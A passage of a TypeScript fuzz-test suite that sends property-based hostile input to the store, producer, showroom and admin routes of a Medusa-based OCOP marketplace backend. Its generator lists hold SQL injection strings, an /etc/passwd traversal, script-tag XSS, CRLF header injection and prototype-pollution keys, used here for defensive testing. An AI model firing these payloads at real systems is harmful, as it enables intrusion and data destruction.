import fc from "fast-check"
import type { Suite } from "../support/backend-app"
import { OCOP_MODULE } from "../../backend/src/modules/ocop"
import {
  approvedProducer,
  bearer,
  customer,
  ledgerAndLevels,
  memberOf,
  placeOrder,
  settle,
  staffToken,
  tableDigest,
  unboundProducerLogin,
  variantOfHandle,
} from "../support/actors"

/**
 * Property-based hostile input on every route the project adds (store/ocop,
 * the producer portal, the showroom counter, admin/ocop) and on Medusa's store
 * routes our middlewares and hooks sit on: arbitrary JSON, wrong types, huge
 * and unicode strings, control characters, odd numbers, extra and
 * prototype-pollution keys, SQL-ish text, in bodies, query strings and path
 * parameters. Each request must answer below 500, a 4xx must carry a readable
 * `message`, a refused request must leave every table the routes write exactly
 * as it was, the ledger must equal the showrooms' inventory levels, and the
 * process must keep answering. A fixed seed makes every failure reproducible:
 * the report names the route, the seed, the path and the counterexample.
 */
const SEED = Number(process.env.HOSTILE_SEED ?? 20260601)
const RUNS = Number(process.env.HOSTILE_RUNS ?? 25)

// ---------------------------------------------------------------- generators

const SPECIAL_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u0007\u001b[2J",
  "\r\n\r\nX-Injected: 1",
  "'; DROP TABLE ocop_producer; --",
  "' OR '1'='1",
  "1' OR 1=1 --",
  "1; SELECT pg_sleep(10)",
  "\\",
  "%",
  "%00",
  "%E0%A4%A",
  "$ne",
  '{"$gt":""}',
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "../../../../etc/passwd",
  "<script>alert(1)</script>",
  "{{7*7}}",
  "${7*7}",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "null",
  "undefined",
  "true",
  "\ud800",
  "\udfff",
  "🙂",
  "Ω≈ç√∫",
  "ﷺ",
  "\u202e",
  "\ufeff",
  "Đắk Lắk",
  "Cà phê Buôn Ma Thuột",
  "𝕿𝖊𝖘𝖙",
  "ǅ",
  "ß",
  "2026-02-30",
  "0000-00-00",
  "9999-12-31T23:59:59Z",
  "-271821-04-20T00:00:00.000Z",
  "+275760-09-13T00:00:00.000Z",
  "0001-01-01",
  "-000001-01-01T00:00:00Z",
  "5000-01-01",
  "-1",
  "0",
  "1.5",
  "99999999999999999999",
  "0x10",
  "1,2,3",
]
const hugeString = fc
  .tuple(fc.constantFrom("a", "é", "🙂", "'", "\u0000", "Ậ", "%", ","), fc.integer({ min: 1_000, max: 120_000 }))
  .map(([c, n]) => c.repeat(n))
const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...SPECIAL_STRINGS), weight: 4 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 80 }), weight: 3 },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 300 }), weight: 2 },
  { arbitrary: hugeString, weight: 1 }
)
const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(
    -1,
    0,
    -0,
    0.5,
    1.5,
    -1.5,
    1e21,
    -1e21,
    2 ** 31,
    2 ** 53 + 2,
    Number.MAX_VALUE,
    -Number.MAX_VALUE,
    Number.MIN_VALUE,
    1e-300,
    10_000_000_000,
    8.64e15,
    -8.64e15,
    -62_198_755_200_000
  )
)
/** Objects whose own keys are __proto__ / constructor: what JSON.parse makes of a hostile body. */
const pollution = fc.constantFrom(
  Object.fromEntries([["__proto__", { ocopPolluted: true }]]),
  { constructor: { prototype: { ocopPolluted: true } } },
  Object.fromEntries([["__proto__", { toString: "x", valueOf: 1 }]])
)
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 5 },
  { arbitrary: hostileNumber, weight: 3 },
  { arbitrary: fc.constantFrom(null, true, false, [], {}), weight: 2 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
  { arbitrary: pollution, weight: 1 },
  { arbitrary: fc.array(hostileString, { maxLength: 5 }), weight: 1 }
)
const extraKeys = fc.dictionary(
  fc.oneof(
    fc.constantFrom(
      "__proto__",
      "constructor",
      "prototype",
      "id",
      "producer_id",
      "showroom_id",
      "status",
      "$where",
      "admin",
      "role"
    ),
    fc.string({ maxLength: 20 })
  ),
  hostileValue,
  { maxKeys: 3 }
)

/** A value of the same JSON type as `v`, at its edges: what passes a type check but may break what follows. */
function sameType(v: unknown): fc.Arbitrary<unknown> {
  if (typeof v === "string") return hostileString
  if (typeof v === "number")
    return fc.oneof(
      hostileNumber,
      fc.constantFrom(
        0,
        1,
        -1,
        2 ** 31 - 1,
        2 ** 31,
        999_999_999,
        1_000_000_000,
        1_000_000_001,
        Number.MAX_SAFE_INTEGER
      )
    )
  if (typeof v === "boolean") return fc.boolean()
  return hostileValue
}

/**
 * A valid body bent out of shape: leaves kept, replaced by an edge value of
 * their own type (passing type checks, testing what follows), or by anything;
 * now and then a key dropped or extra keys (__proto__ among them) added.
 */
function bent(template: unknown): fc.Arbitrary<unknown> {
  if (Array.isArray(template)) {
    return fc.oneof(
      { arbitrary: fc.tuple(...template.map(bent)), weight: 6 },
      { arbitrary: fc.array(bent(template[0]), { maxLength: 4 }), weight: 2 },
      { arbitrary: hostileValue, weight: 1 }
    )
  }
  if (template && typeof template === "object") {
    const entries = Object.entries(template)
    const keys = entries.map(([k]) => k)
    return fc
      .tuple(
        fc.tuple(...entries.map(([, v]) => bent(v))),
        keys.length ? fc.option(fc.subarray(keys, { minLength: 1, maxLength: 1 }), { freq: 4 }) : fc.constant(null),
        fc.option(extraKeys, { freq: 6 })
      )
      .map(([values, dropped, extra]) => {
        const out: Record<string, unknown> = {}
        entries.forEach(([k], i) => {
          if (!dropped?.includes(k)) out[k] = values[i]
        })
        // own keys named __proto__ survive, as JSON.parse would make them
        for (const [k, v] of Object.entries(extra ?? {}))
          Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true })
        return out
      })
  }
  return fc.oneof(
    { arbitrary: fc.constant(template), weight: 5 },
    { arbitrary: sameType(template), weight: 3 },
    { arbitrary: hostileValue, weight: 1 }
  )
}

/** Long runs of one character (huge generated strings) shortened in reports: aaaa… -> <"a" x 5000>. */
const compact = (text: string) =>
  text.replace(/(.)\1{19,}/gsu, (run, c) => `<${JSON.stringify(c)} x ${[...run].length}>`)

/** encodeURIComponent, with lone surrogates (which it refuses) made well-formed first, as a browser would send them. */
const enc = (s: string) => encodeURIComponent(s.replace(/[\ud800-\udfff]/gu, (c) => (c.length === 1 ? "\ufffd" : c)))

/** A valid body with edge values of the right types in its leaves (no key added or dropped): reaches the handler. */
function edged(template: unknown): fc.Arbitrary<unknown> {
  if (Array.isArray(template))
    return fc.oneof(fc.tuple(...template.map(edged)), fc.array(edged(template[0]), { minLength: 1, maxLength: 3 }))
  if (template && typeof template === "object") {
    const entries = Object.entries(template)
    return fc
      .tuple(...entries.map(([, v]) => edged(v)))
      .map((values) => Object.fromEntries(entries.map(([k], i) => [k, values[i]])))
  }
  return fc.oneof({ arbitrary: fc.constant(template), weight: 3 }, { arbitrary: sameType(template), weight: 2 })
}

/** A valid body with exactly one leaf replaced by an edge value of its type: each field's own path through the handler. */
function oneLeaf(template: unknown): fc.Arbitrary<unknown> {
  const leaves: (string | number)[][] = []
  const walk = (v: unknown, at: (string | number)[]) => {
    if (v && typeof v === "object")
      for (const [k, c] of Object.entries(v)) walk(c, [...at, Array.isArray(v) ? Number(k) : k])
    else leaves.push(at)
  }
  walk(template, [])
  if (!leaves.length || !leaves[0].length) return edged(template)
  return fc.oneof(
    ...leaves.map((at) => {
      const leaf = at.reduce((o: any, k) => o[k], template)
      return sameType(leaf).map((value) => {
        const copy = structuredClone(template) as any
        at.slice(0, -1).reduce((o: any, k) => o[k], copy)[at[at.length - 1]] = value
        return copy
      })
    })
  )
}

type Input = {
  path: string[]
  query: string
  body?: { json?: unknown; raw?: string; contentType?: string; encoding?: string; form?: Uint8Array }
}

const rawBodies = fc.constantFrom(
  '{"a":',
  "{'a': 1}",
  "[1,2,",
  "nul",
  '{"a":1}{"b":2}',
  "\u0000",
  '{"__proto__":{"ocopPolluted":true}}',
  '{"constructor":{"prototype":{"ocopPolluted":true}}}',
  '{"a":' + "[".repeat(5000) + "]".repeat(5000) + "}",
  '"just a string"',
  "12345678901234567890"
)
/** The body of a POST: mostly a bent valid one, sometimes any JSON, malformed JSON, another content type or a very large body. */
function bodyOf(template: unknown): fc.Arbitrary<Input["body"]> {
  return fc.oneof(
    { arbitrary: oneLeaf(template).map((json) => ({ json })), weight: 8 },
    { arbitrary: edged(template).map((json) => ({ json })), weight: 5 },
    { arbitrary: bent(template).map((json) => ({ json })), weight: 5 },
    { arbitrary: fc.jsonValue({ maxDepth: 4 }).map((json) => ({ json })), weight: 2 },
    { arbitrary: rawBodies.map((raw) => ({ raw })), weight: 1 },
    {
      arbitrary: fc
        .tuple(
          fc.constantFrom(
            "text/plain",
            "application/x-www-form-urlencoded",
            "application/xml",
            "multipart/form-data; boundary=x",
            "application/json; charset=utf-16",
            "application/json; charset=nope"
          ),
          fc.string({ maxLength: 200 })
        )
        .map(([contentType, raw]) => ({ raw, contentType })),
      weight: 1,
    },
    // a body that claims a compression it does not have, or one the server does not know
    {
      arbitrary: fc
        .tuple(bent(template), fc.constantFrom("gzip", "deflate", "br", "x-unknown", "gzip, gzip"))
        .map(([json, encoding]) => ({ raw: JSON.stringify(json), encoding })),
      weight: 1,
    },
    {
      arbitrary: fc
        .integer({ min: 200_000, max: 3_000_000 })
        .map((n) => ({ raw: JSON.stringify({ blob: "x".repeat(n) }) })),
      weight: 1,
    }
  )
}

const queryKey = (known: string[]) =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...(known.length ? known : ["q"])), weight: 4 },
    {
      arbitrary: fc.constantFrom(
        ...known.flatMap((k) => [`${k}[]`, `${k}[$ne]`, `${k}[0]`, `${k}[a][b]`]),
        "__proto__[ocopPolluted]",
        "constructor[prototype][ocopPolluted]",
        "fields",
        "expand",
        "limit",
        "offset",
        "order"
      ),
      weight: 2,
    },
    { arbitrary: fc.string({ maxLength: 12 }), weight: 1 }
  )
const queryValue = fc.oneof(
  { arbitrary: fc.constantFrom(...SPECIAL_STRINGS), weight: 4 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 60 }), weight: 2 },
  { arbitrary: hostileNumber.map(String), weight: 2 },
  { arbitrary: fc.integer({ min: 300, max: 4_000 }).map((n) => "z".repeat(n)), weight: 1 }
)
/** A query string of known and unknown keys (with qs brackets) and hostile values; sometimes with raw broken escapes. */
function queryOf(known: string[], valid: Record<string, string> = {}): fc.Arbitrary<string> {
  const pairs = fc.array(fc.tuple(queryKey(known), queryValue), { maxLength: 5 })
  return fc
    .tuple(
      fc.option(fc.subarray(Object.entries(valid))),
      pairs,
      fc.option(fc.constantFrom("%", "%zz", "a=%E0%A4%A", "&&&", "=&=", "a[=1"), { freq: 8 })
    )
    .map(([base, rest, broken]) => {
      const encoded = [...(base ?? []), ...rest].map(
        ([k, v]) => `${enc(k).replace(/%5B/g, "[").replace(/%5D/g, "]")}=${enc(v)}`
      )
      if (broken) encoded.push(broken)
      return encoded.join("&")
    })
}
/** A path parameter: one of the real ids, or a hostile segment (encoded; now and then raw broken escapes). */
function segmentOf(real: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: fc.constantFrom(...real).map(enc), weight: 3 },
    {
      arbitrary: fc
        .oneof(
          fc.constantFrom(...SPECIAL_STRINGS.filter(Boolean)),
          fc.string({ unit: "binary", minLength: 1, maxLength: 60 }),
          fc.integer({ min: 65, max: 3000 }).map((n) => "k".repeat(n))
        )
        .map(enc),
      weight: 3,
    },
    { arbitrary: fc.constantFrom("%", "%zz", "%E0%A4%A", "%C0%AE%C0%AE", "..%2F..%2Fadmin"), weight: 1 }
  )
}

// ---------------------------------------------------------------- routes

/** What an internal error looks like when it leaks into a 4xx: a stack trace, the database's or the ORM's own words. */
const INTERNAL =
  /^\s+at \S+ \(|duplicate key value|violates (unique|foreign key|not-null|check) constraint|syntax error at or near|invalid input syntax|invalid byte sequence|relation "|column "|MikroORM|knex|TypeError|ReferenceError|Cannot read properties/m

type Route = {
  method: "GET" | "POST" | "DELETE"
  path: string // with :params
  as: () => { headers: Record<string, string> }
  params?: () => string[][] // real values for each :param, in order
  body?: () => unknown // a valid body
  query?: string[] // known query keys
  validQuery?: () => Record<string, string>
  upload?: boolean
  examples?: () => Input[] // counterexamples found before: run first, every time
}

export const hostileInput: Suite = (ctx) => {
  const w: Record<string, any> = {}
  const store = () => ctx.storeHeaders
  const admin = () => ctx.adminHeaders
  const producerA = () => ({ headers: bearer(w.producerA.token).headers })
  const staffA = () => bearer(w.staffA.token)
  const today = () => new Date(Date.now() + 7 * 3600_000).toISOString().slice(0, 10)

  beforeAll(async () => {
    w.keo = await variantOfHandle(ctx, "keo-dua-cho-lach")
    w.sau = await variantOfHandle(ctx, "sau-rieng-cho-lach")
    const ocop = ctx.container().resolve(OCOP_MODULE)
    const [htx] = await ocop.listOcopProducers({ handle: "htx-dua-cho-lach" })
    const [chanhThu] = await ocop.listOcopProducers({ handle: "cty-trai-cay-chanh-thu" })
    w.htx = htx.id
    w.producerA = await memberOf(ctx, "htx-dua-cho-lach", "chu@dua.vn")
    w.producerB = await approvedProducer(ctx, "htx-cam-b", "chu@camb.vn")
    const listing = await ctx.api.post(
      "/producer/products",
      { title: "Bánh pía nháp", variants: [{ title: "Hộp", sku: "PIA-NHAP-1", price: 60000, stock: 5 }] },
      producerA()
    )
    w.draftProduct = listing.data.product.id
    w.draftVariant = (
      await ctx.api.get(`/producer/products/${w.draftProduct}`, producerA())
    ).data.product.variants[0].id
    w.invite = (await ctx.api.post("/producer/invites", { email: "dong-nghiep@dua.vn" }, producerA())).data.invite.token
    w.signupLogin = await unboundProducerLogin(ctx, "moi-dang-ky@x.vn")
    w.inviteLogin = await unboundProducerLogin(ctx, "dong-nghiep@dua.vn")

    const showroom = (handle: string, province_code: string) =>
      ctx.api.post(
        "/admin/ocop/showrooms",
        {
          name: `Điểm ${handle}`,
          handle,
          address: "1 Đường 30/4",
          commune: "Xã Chợ Lách",
          province_code,
          opening_hours: "7:30-17:30",
        },
        admin()
      )
    w.showroomA = (await showroom("diem-a", "vinh-long")).data.showroom
    w.showroomB = (await showroom("diem-b", "ha-noi")).data.showroom
    await ctx.api.post(
      `/admin/ocop/showrooms/${w.showroomA.id}/agreements`,
      { producer_id: htx.id, commission_bps: 1500 },
      admin()
    )
    await ctx.api.post(
      `/admin/ocop/showrooms/${w.showroomA.id}/agreements`,
      { producer_id: chanhThu.id, commission_bps: 1000 },
      admin()
    )
    w.staffA = await staffToken(ctx, w.showroomA.id, "quay-a@ocop.vn")
    w.staffB = await staffToken(ctx, w.showroomB.id, "quay-b@ocop.vn")
    const pending = (
      await ctx.api.post(
        `/admin/ocop/showrooms/${w.showroomA.id}/staff`,
        { email: "moi-vao@ocop.vn", role: "clerk" },
        admin()
      )
    ).data
    w.pendingStaff = pending.staff.id
    w.activation = pending.activation.token
    w.staffLogin = (
      await ctx.api.post("/auth/staff/emailpass/register", { email: "moi-vao@ocop.vn", password: "mat-khau-quay-1" })
    ).data.token

    w.intakeReceipt = (
      await ctx.api.post(
        "/showroom/intakes",
        {
          lines: [
            { variant_id: w.keo, quantity: 30, lot: "L1" },
            { variant_id: w.sau, quantity: 10 },
          ],
        },
        staffA()
      )
    ).data.receipt
    w.saleReceipt = (
      await ctx.api.post(
        "/showroom/sales",
        { payment_method: "cash", lines: [{ variant_id: w.keo, quantity: 1 }] },
        staffA()
      )
    ).data.sale.receipt
    w.settlement = (
      await ctx.api.post("/showroom/settlements", { producer_id: htx.id, from: today(), to: today() }, staffA())
    ).data.settlement.id

    w.customer = await customer(ctx, "khach@ocop.vn")
    w.delivered = await placeOrder(
      ctx,
      [
        [w.keo, 1],
        [w.sau, 1],
      ],
      { as: w.customer, email: "khach@ocop.vn" }
    )
    w.pickup = await placeOrder(ctx, [[w.keo, 2]], { option: "Điểm diem-a", provider: "pp_showroom_cod" })
    const { data: regions } = await ctx.api.get("/store/regions", store())
    w.region = regions.regions[0].id
    w.cart = (await ctx.api.post("/store/carts", { region_id: w.region, email: "gio@hang.vn" }, store())).data.cart.id

    const certs = await ocop.listOcopCertificates({}, { take: null })
    w.certificate = certs.find((c: any) => c.certificate_number === "T-BT-1").id
    w.submittedCert = certs.find((c: any) => c.certificate_number === "T-SUB").id
  })

  const certificateBody = (productId: string) => ({
    product_id: productId,
    certificate_number: "HB-2026-77",
    decision_number: "455/QĐ-UBND",
    issuing_authority: "UBND tỉnh Hòa Bình",
    stars: 4,
    product_group: "food",
    issued_at: "2025-03-01",
    expires_at: "2028-03-01",
    commune: "Xã Cao Phong",
    province_code: "hoa-binh",
  })

  const STORE: Route[] = [
    {
      method: "GET",
      path: "/store/ocop/search",
      as: store,
      query: [
        "q",
        "province",
        "stars",
        "stars_min",
        "group",
        "producer_type",
        "producer",
        "price_min",
        "price_max",
        "in_stock",
        "sort",
        "page",
        "limit",
      ],
      validQuery: () => ({
        q: "keo dua",
        stars: "4,5",
        sort: "price_asc",
        page: "1",
        limit: "5",
        price_min: "0",
        price_max: "100000",
        province: "vinh-long",
        in_stock: "true",
      }),
    },
    { method: "GET", path: "/store/ocop/provinces", as: store },
    { method: "GET", path: "/store/ocop/showrooms", as: store },
    {
      method: "GET",
      path: "/store/ocop/certificates/:number",
      as: store,
      params: () => [["T-BT-1", "T-REV", "T-SUB", "T-EXP"]],
    },
    {
      method: "GET",
      path: "/store/ocop/producers/:handle",
      as: store,
      params: () => [["htx-dua-cho-lach", "htx-cam-b"]],
    },
    {
      method: "GET",
      path: "/store/ocop/product-pages/:handle",
      as: store,
      params: () => [["keo-dua-cho-lach", "fixture-expired"]],
      query: ["region_id"],
      validQuery: () => ({ region_id: w.region }),
    },
    {
      method: "GET",
      path: "/store/ocop/products/:id/availability",
      as: store,
      params: () => [[ctx.productIdByHandle.get("keo-dua-cho-lach")!, ctx.productIdByHandle.get("fixture-expired")!]],
    },
    { method: "GET", path: "/store/ocop/orders/:id/pickup", as: store, params: () => [[w.pickup.id, w.delivered.id]] },
    {
      method: "GET",
      path: "/store/ocop/orders/:id/parts",
      as: () => w.customer,
      params: () => [[w.delivered.id, w.pickup.id]],
    },
    {
      method: "POST",
      path: "/store/ocop/orders/lookup",
      as: store,
      body: () => ({ display_id: w.delivered.display_id, email: "khach@ocop.vn" }),
    },
    {
      method: "GET",
      path: "/store/products",
      as: store,
      query: ["id", "handle", "q", "limit", "offset", "region_id", "fields", "order", "category_id", "collection_id"],
      validQuery: () => ({
        id: ctx.productIdByHandle.get("keo-dua-cho-lach")!,
        handle: "keo-dua-cho-lach",
        region_id: w.region,
      }),
    },
    {
      method: "GET",
      path: "/store/products/:id",
      as: store,
      params: () => [[ctx.productIdByHandle.get("keo-dua-cho-lach")!, ctx.productIdByHandle.get("fixture-revoked")!]],
      query: ["region_id", "fields"],
    },
    {
      method: "GET",
      path: "/store/product-variants",
      as: store,
      query: ["id", "product_id", "sku", "limit", "fields"],
      validQuery: () => ({ product_id: ctx.productIdByHandle.get("keo-dua-cho-lach")! }),
      examples: () => [{ path: [], query: "id=%00" }],
    },
    {
      method: "POST",
      path: "/store/carts/:id/line-items",
      as: store,
      params: () => [[w.cart]],
      body: () => ({ variant_id: w.keo, quantity: 1 }),
      examples: () => [{ path: [w.cart], query: "", body: { json: { variant_id: "a\u0000b", quantity: 1 } } }],
    },
  ]

  const PRODUCER: Route[] = [
    {
      method: "POST",
      path: "/producer/signup",
      as: () => bearer(w.signupLogin),
      body: () => ({
        member_name: "Lò Văn Sáng",
        name: "HTX Mới",
        handle: "htx-moi-dang-ky",
        type: "cooperative",
        tax_code: "5400123999",
        province_code: "phu-tho",
        commune: "Xã Tân Lạc",
        address: "Xóm 3",
        phone: "0912345678",
        description: "Mô tả",
      }),
    },
    ...[
      "/producer/me",
      "/producer/members",
      "/producer/products",
      "/producer/certificates",
      "/producer/consignments",
      "/producer/sale-events",
      "/producer/orders",
    ].map((path): Route => ({ method: "GET", path, as: producerA })),
    {
      method: "POST",
      path: "/producer/me",
      as: producerA,
      body: () => ({ name_en: "Cho Lach Coconut Cooperative", description_en: "Coconut candy from Ben Tre" }),
    },
    {
      method: "POST",
      path: "/producer/products",
      as: producerA,
      body: () => ({
        title: "Mật ong bạc hà",
        subtitle: "Hà Giang",
        description: "Ngon",
        handle: "mat-ong-bac-ha",
        weight: 500,
        images: ["https://example.com/a.png"],
        variants: [{ title: "Chai 500ml", sku: "MO-BH-500", price: 250000, stock: 20 }],
      }),
    },
    {
      method: "GET",
      path: "/producer/products/:id",
      as: producerA,
      params: () => [[w.draftProduct, ctx.productIdByHandle.get("keo-dua-cho-lach")!]],
    },
    {
      method: "POST",
      path: "/producer/products/:id",
      as: producerA,
      params: () => [[w.draftProduct]],
      body: () => ({
        title: "Bánh pía",
        subtitle: "Sóc Trăng",
        description: "Mô tả",
        images: ["https://example.com/b.png"],
        status: "draft",
      }),
      examples: () => [
        { path: [w.draftProduct], query: "", body: { json: { title: "Bánh pía", subtitle: "\u0000" } } },
      ],
    },
    {
      method: "POST",
      path: "/producer/products/:id/variants/:variant_id",
      as: producerA,
      params: () => [[w.draftProduct], [w.draftVariant]],
      body: () => ({ title: "Hộp 500g", price: 65000, stock: 7 }),
    },
    {
      method: "POST",
      path: "/producer/certificates",
      as: producerA,
      body: () => certificateBody(w.draftProduct),
      examples: () => [
        {
          path: [],
          query: "",
          body: { json: { ...certificateBody(w.draftProduct), issued_at: "-271821-04-20T00:00:00.000Z" } },
        },
        {
          path: [],
          query: "",
          body: {
            json: {
              ...certificateBody(w.draftProduct),
              certificate_number: "HB-EDGE-2",
              expires_at: "+275760-09-13T00:00:00.000Z",
            },
          },
        },
      ],
    },
    { method: "POST", path: "/producer/uploads", as: producerA, upload: true },
    { method: "POST", path: "/producer/invites", as: producerA, body: () => ({ email: "ban-moi@dua.vn" }) },
    {
      method: "POST",
      path: "/producer/invites/accept",
      as: () => bearer(w.inviteLogin),
      body: () => ({ token: w.invite, name: "Đồng Nghiệp" }),
    },
    { method: "GET", path: "/producer/orders/:id", as: producerA, params: () => [[w.delivered.id, w.pickup.id]] },
    {
      method: "POST",
      path: "/producer/orders/:id/shipments",
      as: producerA,
      params: () => [[w.delivered.id, w.pickup.id]],
      body: () => ({ tracking_number: "GHN12345678", tracking_url: "https://ghn.vn/t/GHN12345678" }),
    },
    {
      method: "GET",
      path: "/producer/payouts",
      as: producerA,
      query: ["from", "to", "format"],
      validQuery: () => ({ from: "2026-01", to: "2026-12", format: "csv" }),
    },
  ]

  const SHOWROOM: Route[] = [
    {
      method: "POST",
      path: "/showroom/activate",
      as: () => bearer(w.staffLogin),
      body: () => ({ token: w.activation }),
    },
    ...[
      "/showroom/me",
      "/showroom/stock",
      "/showroom/movements",
      "/showroom/sales",
      "/showroom/alerts",
      "/showroom/settlements",
      "/showroom/pickups",
    ].map((path): Route => ({ method: "GET", path, as: staffA })),
    {
      method: "GET",
      path: "/showroom/variants",
      as: staffA,
      query: ["code", "q"],
      validQuery: () => ({ code: "KEO-DUA-CHO-LACH", q: "keo dua" }),
    },
    {
      method: "GET",
      path: "/showroom/receipts/:receipt",
      as: staffA,
      params: () => [[w.intakeReceipt, w.saleReceipt]],
    },
    {
      method: "POST",
      path: "/showroom/intakes",
      as: staffA,
      body: () => ({
        lines: [{ variant_id: w.keo, quantity: 2, unit_price: 70000, lot: "L-2026", best_before: "2027-05-01" }],
      }),
      examples: () =>
        [-8.64e15, "+275760-09-13T00:00:00.000Z", "-000001-01-01T00:00:00Z"].map((best_before) => ({
          path: [],
          query: "",
          body: { json: { lines: [{ variant_id: w.keo, quantity: 1, best_before }] } },
        })),
    },
    {
      method: "POST",
      path: "/showroom/returns",
      as: staffA,
      body: () => ({ lines: [{ variant_id: w.keo, quantity: 1, reason: "unsold" }] }),
    },
    {
      method: "POST",
      path: "/showroom/adjustments",
      as: staffA,
      body: () => ({ lines: [{ variant_id: w.sau, counted: 9, reason: "Kiểm kê cuối ngày" }] }),
    },
    {
      method: "POST",
      path: "/showroom/sales",
      as: staffA,
      body: () => ({
        payment_method: "card",
        lines: [{ variant_id: w.keo, quantity: 1 }],
        client_reference: "pos-hostile-0001",
      }),
    },
    {
      method: "POST",
      path: "/showroom/settlements",
      as: staffA,
      body: () => ({ producer_id: w.htx, from: "2026-01-01", to: today() }),
      examples: () => [
        { path: [], query: "", body: { json: { producer_id: w.htx, from: "0000-01-01", to: "9999-12-31" } } },
      ],
    },
    {
      method: "GET",
      path: "/showroom/settlements/:id",
      as: staffA,
      params: () => [[w.settlement]],
      query: ["format"],
      validQuery: () => ({ format: "csv" }),
    },
    {
      method: "POST",
      path: "/showroom/settlements/:id",
      as: staffA,
      params: () => [[w.settlement]],
      body: () => ({ status: "confirmed" }),
    },
    {
      method: "POST",
      path: "/showroom/pickups/:id/ready",
      as: staffA,
      params: () => [[w.pickup.id, w.delivered.id]],
      body: () => ({}),
    },
    {
      method: "POST",
      path: "/showroom/pickups/:id/collected",
      as: staffA,
      params: () => [[w.pickup.id, w.delivered.id]],
      body: () => ({ payment_method: "cash" }),
    },
  ]

  const ADMIN: Route[] = [
    {
      method: "GET",
      path: "/admin/ocop/certificates",
      as: admin,
      query: ["status", "product_id", "producer_id", "limit", "offset"],
      validQuery: () => ({ status: "verified", limit: "5", offset: "0" }),
    },
    {
      method: "POST",
      path: "/admin/ocop/certificates",
      as: admin,
      body: () => ({
        ...certificateBody(ctx.productIdByHandle.get("fixture-none")!),
        producer_id: w.htx,
        product_name: "Mật ong",
        level: "provincial",
        score: 80,
        potential_five_star: false,
      }),
      examples: () => [
        {
          path: [],
          query: "",
          body: {
            json: {
              ...certificateBody(ctx.productIdByHandle.get("fixture-none")!),
              producer_id: w.htx,
              product_name: "Mật ong",
              issued_at: -8.64e15,
            },
          },
        },
      ],
    },
    { method: "GET", path: "/admin/ocop/certificates/:id", as: admin, params: () => [[w.certificate]] },
    {
      method: "POST",
      path: "/admin/ocop/certificates/:id/status",
      as: admin,
      params: () => [[w.submittedCert, w.certificate]],
      body: () => ({ status: "rejected", reason: "Hồ sơ thiếu" }),
    },
    {
      method: "GET",
      path: "/admin/ocop/producers",
      as: admin,
      query: ["q", "limit", "offset"],
      validQuery: () => ({ q: "dừa", limit: "5" }),
    },
    {
      method: "POST",
      path: "/admin/ocop/producers",
      as: admin,
      body: () => ({
        name: "HTX Chè",
        handle: "htx-che-moi",
        type: "cooperative",
        tax_code: "5400777888",
        address: "Xóm 1",
        commune: "Xã Tân Cương",
        province_code: "thai-nguyen",
        phone: "0912345678",
        email: "che@x.vn",
        description: "Chè",
      }),
    },
    {
      method: "POST",
      path: "/admin/ocop/producers/:id",
      as: admin,
      params: () => [[w.producerB.producerId]],
      body: () => ({
        status: "approved",
        commission_bps: 1200,
        name: "HTX Cam B",
        phone: "0912345678",
        email: "b@x.vn",
        address: "Xóm 2",
        description: "Cam",
      }),
    },
    {
      method: "GET",
      path: "/admin/ocop/products/:id",
      as: admin,
      params: () => [[ctx.productIdByHandle.get("keo-dua-cho-lach")!]],
    },
    {
      method: "GET",
      path: "/admin/ocop/sale-events",
      as: admin,
      query: ["type", "product_id", "limit", "offset"],
      validQuery: () => ({ type: "verified", limit: "3" }),
    },
    { method: "GET", path: "/admin/ocop/showrooms", as: admin },
    {
      method: "POST",
      path: "/admin/ocop/showrooms",
      as: admin,
      body: () => ({
        name: "Điểm Huế",
        handle: "diem-hue",
        address: "3 Lê Lợi",
        commune: "Phường Thuận Hóa",
        province_code: "hue",
        opening_hours: "8-17",
        phone: "0234 3 822 222",
      }),
    },
    { method: "GET", path: "/admin/ocop/showrooms/:id/staff", as: admin, params: () => [[w.showroomA.id]] },
    {
      method: "POST",
      path: "/admin/ocop/showrooms/:id/staff",
      as: admin,
      params: () => [[w.showroomA.id]],
      body: () => ({ email: "nhan-vien@ocop.vn", name: "Lan", role: "clerk" }),
    },
    {
      method: "POST",
      path: "/admin/ocop/showrooms/:id/staff/:staff_id/token",
      as: admin,
      params: () => [[w.showroomA.id], [w.pendingStaff]],
      body: () => ({}),
      examples: () => [{ path: [w.showroomA.id, "%00"], query: "", body: { json: {} } }],
    },
    {
      method: "DELETE",
      path: "/admin/ocop/showrooms/:id/staff/:staff_id",
      as: admin,
      params: () => [[w.showroomB.id], [w.pendingStaff]],
      examples: () => [{ path: [w.showroomB.id, "%00"], query: "" }],
    },
    { method: "GET", path: "/admin/ocop/showrooms/:id/agreements", as: admin, params: () => [[w.showroomA.id]] },
    {
      method: "POST",
      path: "/admin/ocop/showrooms/:id/agreements",
      as: admin,
      params: () => [[w.showroomB.id]],
      body: () => ({ producer_id: w.htx, commission_bps: 1500, consignment_days: 60, settlement_cycle: "monthly" }),
    },
  ]

  function inputOf(route: Route): fc.Arbitrary<Input> {
    const paramNames = route.path.match(/:[a-z_]+/g) ?? []
    const real = route.params?.() ?? []
    const path = paramNames.length
      ? fc.tuple(...paramNames.map((_, i) => segmentOf(real[i])))
      : fc.constant([] as string[])
    const query = queryOf(route.query ?? [], route.validQuery?.() ?? {})
    let body: fc.Arbitrary<Input["body"]> = fc.constant(undefined)
    if (route.upload) {
      body = fc.oneof(
        fc.uint8Array({ maxLength: 2000 }).map((form) => ({ form })),
        fc
          .constantFrom(
            new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
            new Uint8Array([0xff, 0xd8, 0xff])
          )
          .map((form) => ({ form })),
        bodyOf({ files: ["x"] })
      )
    } else if (route.method !== "GET") body = bodyOf(route.body?.() ?? {})
    return fc.record({
      path,
      query: route.method === "GET" ? query : fc.option(query, { freq: 5 }).map((q) => q ?? ""),
      body,
    })
  }

